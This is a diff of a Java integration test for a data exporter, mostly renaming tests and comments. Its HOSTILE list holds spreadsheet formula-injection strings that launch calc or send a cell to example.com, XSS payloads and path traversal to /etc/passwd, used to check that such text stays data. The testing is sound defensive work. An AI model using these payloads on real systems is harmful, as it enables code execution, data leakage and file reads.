@@ -24,11 +24,11 @@ import com.fasterxml.jackson.databind.node.ObjectNode;
 import dev.waybill.local.stack.ServiceKind;
 import dev.waybill.local.tour.ExportedFiles;
 
-/** Values and times at the edge of what must come through. */
+/** Tests exports of unusual values and times. */
 class EdgeCasesIT {
 
     private static final Instant MIDNIGHT = Instant.parse("2024-02-29T00:00:00Z");
-    /** What is harmless as data only: in a sheet, a page, a shell, a path, a query, a log, a terminal. */
+    /** Texts that spreadsheets, browsers, shells, file systems, databases or terminals may interpret. */
     private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://example.com?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "<script>alert(1)</script><img src=x onerror=alert(1)>",
             "../../../../etc/passwd", "..\\..\\x", "/year=1999/month=13/day=../part-00000.parquet",
@@ -48,19 +48,19 @@ class EdgeCasesIT {
     private Path folder;
 
     @Test
-    void nulCharactersAndSurrogatesInJsonComeOutAsTheyWentIn() {
+    void nulCharactersAndSurrogatesInJsonArePreserved() {
         JsonNode run = HandmadeRun.in("nul", MIDNIGHT).input("nul", NUL).input("astral", "\uD83D\uDE80 \uFFFF \u2028").json();
-        requireOut("nul", "v1", run);
-        requireOut("nul", "v2_beta", run);
+        assertExported("nul", "v1", run);
+        assertExported("nul", "v2_beta", run);
     }
 
     /** Threat T16. */
     @ParameterizedTest
     @ValueSource(strings = { "v1", "v2_beta" })
-    void hostileTextIsDataAndNeverAPartOfAPath(String formatVersion) {
+    void hostileTextIsPreservedAndNotPartOfPaths(String formatVersion) {
         // Given
         String session = "../../export_id=x/year=1999/=cmd|' /C calc'!A0 \u202E";
-        List<JsonNode> runs = HOSTILE.stream().map(text -> HandmadeRun.in(session, MIDNIGHT).everywhere(text).json()).toList();
+        List<JsonNode> runs = HOSTILE.stream().map(text -> HandmadeRun.in(session, MIDNIGHT).allTexts(text).json()).toList();
         workspace.load(runs.stream());
 
         // When
@@ -74,7 +74,7 @@ class EdgeCasesIT {
 
     @ParameterizedTest
     @ValueSource(strings = { "v1", "v2_beta" })
-    void costsAtTheEndsOfTheirRangeComeOut(String formatVersion) {
+    void costsAtTheLimitsOfTheRangeArePreserved(String formatVersion) {
         // Given
         List<JsonNode> runs = Stream
                 .of("999999999.999999999", "1E-9", "0.000000001", "1E+8", "0E-30", "1E-400", "0.1", "12345678.9E-7")
@@ -85,31 +85,31 @@ class EdgeCasesIT {
         // When
         ExportedFiles files = export("costs", MIDNIGHT, MIDNIGHT.plusSeconds(1), formatVersion);
 
-        // Then: hyparquet makes of a decimal a number of JavaScript, which has 15 digits
+        // Then: hyparquet converts decimals to JavaScript numbers with 15 digits, so it is excluded
         assertThat(rows(files, runs, EnumSet.of(FileReader.DUCKDB, FileReader.POLARS))).isEqualTo(runs.size());
     }
 
     @ParameterizedTest
     @ValueSource(strings = { "1E+9", "999999999.9999999999", "1E+999999999", "-1E-9", "-1E+999999999" })
-    void costsOutOfTheirRangeAreRefusedAtTheDoor(String cost) {
+    void intakeRejectsCostsOutOfRange(String cost) {
         JsonNode run = HandmadeRun.in("costs", MIDNIGHT).totalCost(new BigDecimal(cost)).json();
 
-        Http.Answer answer = postAsIs(run.toString());
+        Http.Response response = post(run.toString());
 
-        assertThat(answer.status()).isEqualTo(422);
-        assertThat(answer.body()).contains("total_cost");
+        assertThat(response.status()).isEqualTo(422);
+        assertThat(response.body()).contains("total_cost");
     }
 
-    /** Threat T16: half a pair is no character, and no file could hold it. JSON keeps the escape that it came as. */
+    /** Threat T16: an unpaired surrogate cannot be encoded in UTF-8; JSON can contain its escape sequence. */
     @ParameterizedTest
     @ValueSource(strings = { "v1", "v2_beta" })
-    void halvesOfSurrogatePairsComeOutAsWhatFilesCanHold(String formatVersion) {
+    void unpairedSurrogatesAreReplaced(String formatVersion) {
         // Given
         String session = "halves-" + formatVersion;
         ObjectNode run = named((ObjectNode) HandmadeRun.in(session, MIDNIGHT).input("text", "half of \uD83D.").json(),
                 "half of \uD83D.");
-        Http.Answer taken = postAsIs(run.toString().replace("\uD83D", "\\ud83d"));
-        assertThat(taken.status()).as(taken.body()).isEqualTo(202);
+        Http.Response accepted = post(run.toString().replace("\uD83D", "\\ud83d"));
+        assertThat(accepted.status()).as(accepted.body()).isEqualTo(202);
 
         // When
         ExportedFiles files = export(session, MIDNIGHT, MIDNIGHT.plusSeconds(1), formatVersion);
@@ -119,13 +119,13 @@ class EdgeCasesIT {
     }
 
     @Test
-    void anInputOfSeveralMegabytesComesOut() {
+    void inputOfSeveralMegabytesIsPreserved() {
         String text = "All the world's a stage, and all the men and women merely players. ".repeat(42_000);
-        requireOut("long", "v2_beta", HandmadeRun.in("long", MIDNIGHT).input("text", text).json());
+        assertExported("long", "v2_beta", HandmadeRun.in("long", MIDNIGHT).input("text", text).json());
     }
 
     @Test
-    void aRangeHoldsItsFirstMicrosecondAndNotItsLast() {
+    void rangeIncludesItsStartAndExcludesItsEnd() {
         // Given
         Instant start = Instant.parse("2024-02-29T06:00:00.000001Z");
         Instant end = Instant.parse("2024-03-03T00:00:00Z");
@@ -137,14 +137,14 @@ class EdgeCasesIT {
         // When
         ExportedFiles files = export("range", start, end, "v1");
 
-        // Then: the day between is empty and has no file
+        // Then: the empty day has no file
         assertThat(rows(files, inside)).isEqualTo(inside.size());
         assertThat(files.files()).hasSize(3);
         assertThat(files.files()).noneMatch(file -> file.toString().contains("month=3/day=3"));
     }
 
     @Test
-    void daysWithoutRunsMakeNoFileAndStillAManifest() {
+    void exportWithoutRunsHasManifestAndNoFiles() {
         // Given
         workspace.load(runsAt("empty", MIDNIGHT).stream());
 
@@ -157,7 +157,7 @@ class EdgeCasesIT {
         assertThat(files.manifest().get("schema")).isNotEmpty();
     }
 
-    private void requireOut(String session, String formatVersion, JsonNode run) {
+    private void assertExported(String session, String formatVersion, JsonNode run) {
         workspace.load(Stream.of(run));
         ExportedFiles files = export(session, MIDNIGHT, MIDNIGHT.plusSeconds(1), formatVersion);
         assertThat(rows(files, List.of(run))).isEqualTo(1);
@@ -168,7 +168,7 @@ class EdgeCasesIT {
         return run;
     }
 
-    private Http.Answer postAsIs(String run) {
+    private Http.Response post(String run) {
         try (Http http = new Http()) {
             return http.send("POST", workspace.running().address(ServiceKind.EXPERIMENT).resolve("/api/v1/runs"),
                     workspace.apiKey(), run);
@@ -185,7 +185,7 @@ class EdgeCasesIT {
         return workspace.download(id, folder);
     }
 
-    /** @return how many rows there are, each of which is one of the runs */
+    /** Compares all rows with the runs and returns the number of rows. */
     private int rows(ExportedFiles files, List<JsonNode> runs) {
         return rows(files, runs, EnumSet.allOf(FileReader.class));
     }
@@ -198,7 +198,7 @@ class EdgeCasesIT {
             rows[0] = 0;
             reader.read(files.files(), folder, row -> {
                 JsonNode run = expected.get(row.get("id"));
-                new ExpectedRow(run, workspace.session(run.get("session_name").textValue())).requireSame(row);
+                new ExpectedRow(run, workspace.session(run.get("session_name").textValue())).assertEqualTo(row);
                 rows[0]++;
             });
         }
